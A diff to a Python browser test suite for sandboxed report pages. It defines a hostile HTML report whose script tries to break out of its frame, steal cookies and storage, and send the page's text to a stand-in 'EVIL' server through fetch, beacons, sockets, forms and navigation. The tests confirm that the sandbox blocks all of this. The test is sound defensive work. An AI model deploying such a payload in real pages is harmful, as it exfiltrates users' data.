@@ -6,7 +6,7 @@ import re
 import threading
 import time
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
@@ -19,7 +19,8 @@ from servers.console import FORMS, ConsoleServer
 from servers.plugin import ADMIN
 from servers.plugin import signed_in as acting_as
 
-#: Tries everything a report could do; ``done`` in its title says that its scripts ran to the end.
+#: Tries everything a report could do; ``done`` in its title says that its scripts ran to the end. Attempts to go
+#: elsewhere can take the page away, even where they are refused: ``leave()`` makes them, once the rest is read.
 HOSTILE = """<!doctype html><title>start</title><body><p id="drawn">drawn</p>
 <form id="form" method="post" action="EVIL/form"><input name="stolen" value="1"></form>
 <form id="own" method="post" action="API/registered-models/alias"><input name="alias" value="production"></form>
@@ -33,13 +34,10 @@ const attempt = (name, act) => {
 const later = (name, act) => Promise.resolve().then(act).then(
   () => told.push(name + ": WORKED"), (error) => told.push(name + ": " + error.name));
 (async () => {
-  attempt("parent", () => parent.document.body.innerHTML = "taken");
+  attempt("parent", () => parent.document.body.append("taken"));
   attempt("cookie", () => document.cookie = "a=b");
   attempt("storage", () => localStorage.setItem("a", "b"));
-  attempt("top", () => { top.location = "EVIL/top"; });
   attempt("popup", () => { if (!open("EVIL/popup")) throw new TypeError("blocked"); });
-  attempt("form", () => document.getElementById("form").submit());
-  attempt("own form", () => document.getElementById("own").submit());
   attempt("beacon", () => { if (!navigator.sendBeacon("EVIL/beacon", "x")) throw new TypeError("blocked"); });
   attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"]))));
   attempt("socket", () => new WebSocket("EVIL/socket".replace("http", "ws")));
@@ -47,8 +45,13 @@ const later = (name, act) => Promise.resolve().then(act).then(
   await later("fetch page", () => fetch("/flywheel/releases/3"));
   await later("fetch evil", () => fetch("EVIL/fetch?" + document.body.innerText, {mode: "no-cors"}));
   document.getElementById("drawn").textContent = told.join("\\n");
+  window.leave = () => {
+    attempt("form", () => document.getElementById("form").submit());
+    attempt("own form", () => document.getElementById("own").submit());
+    attempt("top", () => { top.location = "EVIL/top"; });
+    location = "EVIL/self";
+  };
   document.title = "done";
-  setTimeout(() => { location = "EVIL/self"; }, 300);
 })();
 </script></body>"""
 
@@ -74,7 +77,8 @@ class Evil:
                 self.send_header("Content-Type", "text/html")
                 self.send_header("Content-Length", str(len(body)))
                 self.end_headers()
-                self.wfile.write(body)
+                with suppress(ConnectionError):  # the browser left before it was answered
+                    self.wfile.write(body)
 
             do_POST = do_GET  # noqa: N815 - the name the library looks for
 
@@ -142,8 +146,10 @@ def test_a_hostile_report_reaches_nothing(
     page = signed_in(REVIEWER)
     sent = sent_by(page)
     page.goto("/flywheel/drift?iteration=3&against=2")
-    told = report_frame(page).locator("#drawn").inner_text()
-    page.wait_for_timeout(800)  # the last attempt waits until its page is drawn
+    frame = report_frame(page)
+    told = frame.locator("#drawn").inner_text()
+    frame.evaluate("leave()")
+    page.wait_for_timeout(800)  # a refused request would be told of nowhere; one that is sent arrives within this
     assert "WORKED" not in told, told
     assert "parent: SecurityError" in told
     assert evil.seen == []
@@ -160,11 +166,20 @@ def test_the_attacks_are_real(signed_in: SignedIn, evil: Evil) -> None:
     """The same page, shown as any page of the web is, asks the other server for all that it wants."""
     evil.pages["/report"] = HOSTILE.replace("EVIL", evil.uri).replace("API", f"{evil.uri}/api")
     page = signed_in()
-    page.goto(evil.uri + "/report", wait_until="commit")
-    page.wait_for_url(lambda address: not address.endswith("/report"))
-    page.wait_for_timeout(800)
-    reached = {place.partition("?")[0] for place in evil.seen}
-    assert {"/image", "/style", "/frame", "/script", "/beacon", "/popup"} <= reached, reached
+    page.goto(evil.uri + "/report")
+    page.wait_for_function("document.title == 'done'")
+    page.evaluate("leave()")
+    wanted = {"/image", "/style", "/frame", "/script", "/beacon", "/popup", "/fetch"}
+    # Of the ways to leave the last one wins, and may cut the others short.
+    leaving = {"/form", "/top", "/self"}
+    end = time.monotonic() + 30
+    while time.monotonic() < end:
+        reached = {place.partition("?")[0] for place in evil.seen}
+        if wanted <= reached and leaving & reached:
+            break
+        page.wait_for_timeout(100)
+    assert wanted <= reached, reached
+    assert leaving & reached, reached
 
 
 def test_a_report_has_no_window_of_its_own(signed_in: SignedIn, evil: Evil, exchanged: str) -> None:
